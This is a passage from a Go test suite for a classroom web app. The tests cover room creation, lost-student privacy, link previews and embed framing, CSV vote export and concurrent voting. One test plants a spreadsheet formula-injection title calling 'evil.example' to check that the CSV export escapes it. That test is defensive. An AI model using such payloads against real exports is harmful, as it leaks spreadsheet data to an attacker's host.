		t.Errorf("one who guesses shuts the others out of a room that was made here: %d", res.StatusCode)
	}
}

// impossible is a link with moves that nobody could have made.
func impossible(t *testing.T) string {
	t.Helper()
	sc, err := scenario.Parse([]byte(`{"threads":[{"name":"A"},{"name":"B"}],"schedule":[0,7,7]}`))
	if err != nil {
		t.Fatal(err)
	}
	text, err := link.Encode(link.Contents{Scenario: sc, At: 3})
	if err != nil {
		t.Fatal(err)
	}
	return text
}

func TestWhatNoRoomIsMadeOf(t *testing.T) {
	racetest.Skip(t)
	s := open(t, nil)
	for name, form := range map[string]url.Values{
		"nothing":       {},
		"no example":    {"example": {"nowhere"}},
		"a broken link": {"link": {"v1.z.!!~0"}},
		"no item":       {"item": {"lease/nowhere"}},
		"no such moves": {"link": {impossible(t)}},
	} {
		if res, _ := s.do(t, "POST", "/rooms", form); res.StatusCode != http.StatusUnprocessableEntity {
			t.Errorf("%s: %d", name, res.StatusCode)
		}
	}
	res, _ := s.do(t, "POST", "/rooms", url.Values{"example": {"two-threads"}})
	if at := res.Header.Get("Location"); res.StatusCode != http.StatusSeeOther || !strings.HasSuffix(at, "/host") || len(res.Cookies()) == 0 || !res.Cookies()[0].HttpOnly {
		t.Errorf("a browser is led to %q: %d, cookies %v", at, res.StatusCode, res.Cookies())
	}
}

// A title that a link brings along is no formula in the host's spreadsheet.
// Hosts see how many are lost, and nobody sees who: not in the log either.
func TestWhoIsLostIsNobodyInParticular(t *testing.T) {
	s := open(t, nil)
	code, secret := s.makeRoom(t, url.Values{"example": {"lease-expiry"}})
	host := s.visit(t, code, "en", nil).join("host", object{"secret": secret})
	a, b := s.visit(t, code, "en", nil).join("player", nil), s.visit(t, code, "en", nil).join("audience", nil)
	a.must(object{"do": "lost"})
	b.must(object{"do": "lost", "on": true})
	lost := func(n int) func() bool { return func() bool { return host.room.Lost != nil && *host.room.Lost == n } }
	host.until("two are lost", lost(2))
	again := s.visit(t, code, "en", nil)
	if f := again.must(object{"do": "join", "part": "player", "member": a.member, "token": a.token}); !f.Lost {
		t.Error("who comes back has forgotten that he is lost")
	}
	b.must(object{"do": "lost", "on": false})
	host.until("one is lost", lost(1))
	if b.room.Lost != nil {
		t.Error("everybody sees how many are lost")
	}
	if _, body := s.do(t, "GET", "/room/"+code+"/log", nil, "Authorization", "Bearer "+secret); strings.Contains(body, `"lost":true`) {
		t.Error("the log says who is lost")
	}
	host.must(object{"do": "lobby"})
	again.until("the stages show how one joins", func() bool { return again.room.Lobby })
}

// A link to a room has a preview, and other pages frame its stage, which leads
// nobody.
func TestARoomElsewhere(t *testing.T) {
	s := open(t, nil)
	code, secret := s.makeRoom(t, url.Values{"example": {"lease-expiry"}})
	for path, title := range map[string]string{"/room": "Join a room", "/room/" + code: "Join the class: The lease ends before the work · " + code} {
		_, body := s.do(t, "GET", path, nil)
		if !strings.Contains(body, `property="og:title" content="`+title+`"`) || !strings.Contains(body, `og:description" content="A class around one lock`) || strings.Contains(body, "oembed") {
			t.Errorf("%s has no preview", path)
		}
	}
	res, body := s.do(t, "GET", "/embed/room/"+code+"/stage", nil, "Cookie", "relock-room-"+code+"="+secret)
	if policy := res.Header.Get("Content-Security-Policy"); res.StatusCode != http.StatusOK || !strings.Contains(policy, "frame-ancestors *") || !strings.Contains(body, `data-part="stage"`) {
		t.Errorf("%d %s", res.StatusCode, policy)
	}
	if res, _ := s.do(t, "GET", "/room/"+code+"/stage", nil); strings.Contains(res.Header.Get("Content-Security-Policy"), "frame-ancestors *") {
		t.Error("other pages frame a stage that leads")
	}
	if _, body := s.do(t, "GET", "/room/"+code+"/host", nil, "Cookie", "relock-room-"+code+"="+secret); !strings.Contains(body, "/embed/room/"+code+"/stage") || !strings.Contains(body, "/qr?text=http") {
		t.Error("the host is not told how slides frame the stage")
	}
}

func TestVotesHaveNoFormulas(t *testing.T) {
	s := open(t, nil)
	sc := parsed(t, twoText)
	sc.Title = `=HYPERLINK("http://evil.example/"&A1,"click")`
	text, err := link.Encode(link.Contents{Scenario: sc})
	if err != nil {
		t.Fatal(err)
	}
	code, secret := s.makeRoom(t, url.Values{"link": {text}})
	host := s.visit(t, code, "en", nil).join("host", object{"secret": secret})
	voter := s.visit(t, code, "en", nil).join("audience", nil)
	host.must(object{"do": "ask", "kind": "predict"})
	voter.must(object{"do": "vote", "option": 0})
	_, votes := s.do(t, "GET", "/room/"+code+"/votes.csv", nil, "Authorization", "Bearer "+secret)
	if strings.Count(votes, "\n") != 2 || strings.Contains(votes, `"=HYPER`) || !strings.Contains(votes, `"'=HYPER`) {
		t.Errorf("votes: %s", votes)
	}
}

// Of the votes of a large class that come all at once none is lost, and each counts
// for what it says.
func TestNoVoteOfALargeClassIsLost(t *testing.T) {
	voters := 300
	if testing.Short() {
		voters = 100
	}
	s := open(t, nil)
	code, secret := s.makeRoom(t, url.Values{"example": {"lease-expiry"}})
	host := s.visit(t, code, "en", nil).join("host", object{"secret": secret})
	all := make([]*attendee, voters)
	for n := range all {
		all[n] = s.visit(t, code, "en", nil).join("audience", nil)
	}
	host.must(object{"do": "ask", "kind": "own", "text": "Who is in?", "options": []string{"A", "B", "C"}, "right": 1})
	for _, round := range []int{1, 2} {
		want := make([]int, 3)
		for n, one := range all {
			option := (n + round) % 7 % 3
			want[option]++
			one.id++
			if err := one.conn.WriteJSON(object{"id": one.id, "do": "vote", "option": option}); err != nil {
				t.Fatal(err)
			}
		}
		for _, one := range all {
			for f := one.read(); f.Re != one.id || !f.Done; f = one.read() {
				if f.Refused != "" {
					t.Fatal(f.Refused)
				}
			}
		}
		host.must(object{"do": "reveal"})
		if q := host.room.Question; q.Votes != voters || q.Of != voters || !slices.Equal(q.Counts, want) {
			t.Errorf("round %d: %d of %d voted, %v, want %v", round, q.Votes, q.Of, q.Counts, want)
		}
		host.must(object{"do": "again"})
	}
}
